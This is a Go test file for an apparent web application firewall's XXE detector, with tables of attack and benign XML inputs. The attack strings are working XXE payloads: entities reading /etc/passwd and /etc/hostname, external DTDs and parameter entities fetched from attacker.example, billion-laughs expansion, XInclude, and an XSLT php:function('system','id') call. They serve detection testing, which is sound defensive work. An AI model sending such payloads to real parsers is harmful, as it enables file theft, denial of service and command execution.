package detect

import (
	"strings"
	"testing"

	"github.com/rampartwaf/rampart/internal/parse"
	"github.com/rampartwaf/rampart/internal/request"
)

func TestXXE(t *testing.T) {
	tests := []struct {
		name  string
		value string
		want  bool
	}{
		// attacks
		{"system entity", `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]><r>&x;</r>`, true},
		{"public entity", `<!DOCTYPE r [<!ENTITY x PUBLIC "-//x//EN" "http://attacker.example/x">]>`, true},
		{"parameter entity", `<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/e.dtd"> %p;]>`, true},
		{"parameter entity alone", `<!ENTITY % a "<!ENTITY &#37; b SYSTEM 'http://x.example/?%c;'>">`, true},
		{"entity declaration outside doctype", `<!entity ent system "/etc/hosts">`, true},
		{"internal entity probe", `<!DOCTYPE d [<!ENTITY t "probe">]><d>&t;</d>`, true},
		{"billion laughs", `<!DOCTYPE l [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>`, true},
		{"external dtd", `<!DOCTYPE note SYSTEM "http://attacker.example/note.dtd"><note/>`, true},
		{"local dtd", `<!DOCTYPE x SYSTEM "/usr/share/xml/fontconfig/fonts.dtd"><x/>`, true},
		{"public id to attacker", `<!DOCTYPE x PUBLIC "-//A//B" "https://attacker.example/b.dtd"><x/>`, true},
		{"xinclude", `<d xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/hostname"/></d>`, true},
		{"xinclude other prefix", `<a:include href="file:///c:/windows/win.ini"/>`, true},
		{"xslt document", `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:copy-of select="document('/etc/hostname')"/></xsl:template></xsl:stylesheet>`, true},
		{"xslt php", `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:php="http://php.net/xsl"><xsl:value-of select="php:function('system','id')"/></xsl:stylesheet>`, true},
		// benign
		{"plain xml", `<?xml version="1.0" encoding="UTF-8"?><order><id>42</id><note>ring twice</note></order>`, false},
		{"xhtml doctype", `<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>`, false},
		{"svg doctype", `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>`, false},
		{"docbook", `<!DOCTYPE book PUBLIC "-//OASIS//DTD DocBook XML V4.5//EN" "http://www.oasis-open.org/docbook/xml/4.5/docbookx.dtd"><book/>`, false},
		{"w3c look-alike host", `<!DOCTYPE x SYSTEM "http://www.w3.org.attacker.example/x.dtd"><x/>`, true},
		{"plist", `<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist version="1.0"><dict/></plist>`, false},
		{"html5 doctype", `<!DOCTYPE html><html><body><p>hi</p></body></html>`, false},
		{"entity reference alone", `Tom &amp; Jerry &copy; 2024`, false},
		{"illustrator svg", illustratorSVG, false},
		{"epub nbsp entity", `<!DOCTYPE html [<!ENTITY nbsp "&#160;"><!ENTITY copy "&#xA9;">]><html xmlns="http://www.w3.org/1999/xhtml"><p>a&nbsp;b</p></html>`, false},
		{"dita local dtd", `<!DOCTYPE topic PUBLIC "-//OASIS//DTD DITA Topic//EN" "topic.dtd"><topic id="a"/>`, false},
		{"html legacy-compat", `<!DOCTYPE html SYSTEM "about:legacy-compat"><html/>`, false},
		{"literal entity probe, other root", `<!DOCTYPE foo [<!ENTITY bar "World">]><foo>Hello &bar;</foo>`, true},
		{"svg billion laughs", `<!DOCTYPE svg [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;">]><svg>&b;</svg>`, true},
		{"svg system entity among literal ones", `<!DOCTYPE svg [<!ENTITY ns "http://ns.adobe.com/"><!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>`, true},
		{"svg parameter entity", `<!DOCTYPE svg [<!ENTITY % p SYSTEM "http://attacker.example/e.dtd"> %p;]><svg/>`, true},
		{"svg markup entity", `<!DOCTYPE svg [<!ENTITY m "<script>x</script>">]><svg>&m;</svg>`, true},
		{"svg quadratic blowup", `<!DOCTYPE svg [<!ENTITY a "` + strings.Repeat("A", 2000) + `">]><svg><text>` + strings.Repeat("&a;", 100) + `</text></svg>`, true},
		{"dtd path up", `<!DOCTYPE x SYSTEM "../../etc/x.dtd"><x/>`, true},
		{"dtd absolute path", `<!DOCTYPE x SYSTEM "/etc/x.dtd"><x/>`, true},
		{"prose about entities", `You declare an entity in the DTD, then reference it as &name;`, false},
		{"soap", `<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><m:GetPrice xmlns:m="https://example.org/prices"><m:Item>Apples</m:Item></m:GetPrice></soap:Body></soap:Envelope>`, false},
		{"plain stylesheet", `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:value-of select="/a/b"/></xsl:template></xsl:stylesheet>`, false},
		{"jsp include", `<jsp:include page="header.jsp"/>`, false},
		{"comparison", "if a < b and b > c then <!-- nothing -->", false},
		{"html", `<div class="x"><a href="/include/path">include</a></div>`, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p := &request.Param{Source: request.SourceForm, Name: "doc", Value: tt.value}
			_, got := matchXXE(p, tt.value)
			if got != tt.want {
				t.Errorf("matchXXE(%q) = %v, want %v", tt.value, got, tt.want)
			}
		})
	}
}

// TestXXEBody checks that XXE in an XML body is found through what the parser makes of
// it (the DOCTYPE as a parameter, a declaration when it has no internal subset), and
// that an ordinary XML body, with a DOCTYPE or not, raises no attack signal.
func TestXXEBody(t *testing.T) {
	for _, tt := range []struct {
		body string
		want bool
	}{
		{`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]><r><a>&x;</a></r>`, true},
		{`<?xml version="1.0"?><r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/hostname" parse="text"/></r>`, true},
		{`<?xml version="1.0"?><r><a id="1">text</a><b>more</b></r>`, false},
		// A DOCTYPE naming only an external DTD is a declaration XXE still judges.
		{`<?xml version="1.0"?><!DOCTYPE note SYSTEM "http://attacker.example/note.dtd"><note>hi</note>`, true},
		{`<!DOCTYPE x PUBLIC "-//A//B" "https://attacker.example/b.dtd"><x/>`, true},
		{`<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>`, true},
		{`<?xml version="1.0"?><!DOCTYPE note><note>hi</note>`, false},
		{`<?xml version="1.0"?><!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist version="1.0"><dict><key>a</key><string>b</string></dict></plist>`, false},
	} {
		r := &request.Request{Method: "POST", URI: "/api", Path: "/api", Proto: "HTTP/1.1",
			ContentType: "application/xml", Body: []byte(tt.body)}
		parse.Fill(r, parse.Limits{Params: 100, Depth: 16})
		Inspect(r)
		if got := r.HasSignal(XXE); got != tt.want {
			t.Errorf("XXE on %q = %v, want %v (signals %+v)", tt.body, got, tt.want, r.Signals)
		}
		for _, s := range r.Signals {
			if !tt.want && IsAttack(s.Name) {
				t.Errorf("%s on benign %q (signals %+v)", s.Name, tt.body, r.Signals)
			}
		}
	}
}

// illustratorSVG is the head of an SVG as Adobe Illustrator saves it: its namespaces are
// literal entities of the internal subset, referenced from xmlns attributes.
const illustratorSVG = `<?xml version="1.0" encoding="utf-8"?>
<!-- Generator: Adobe Illustrator 27.5.0, SVG Export Plug-In . SVG Version: 6.00 Build 0)  -->
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [
	<!ENTITY ns_extend "http://ns.adobe.com/Extensibility/1.0/">
	<!ENTITY ns_ai "http://ns.adobe.com/AdobeIllustrator/10.0/">
	<!ENTITY ns_graphs "http://ns.adobe.com/Graphs/1.0/">
	<!ENTITY ns_vars "http://ns.adobe.com/Variables/1.0/">
]>
<svg version="1.1" xmlns:x="&ns_extend;" xmlns:i="&ns_ai;" xmlns:graph="&ns_graphs;"
	 xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" x="0px" y="0px"
	 viewBox="0 0 24 24" style="enable-background:new 0 0 24 24;" xml:space="preserve">
<path d="M12 2L2 22h20z"/>
</svg>`
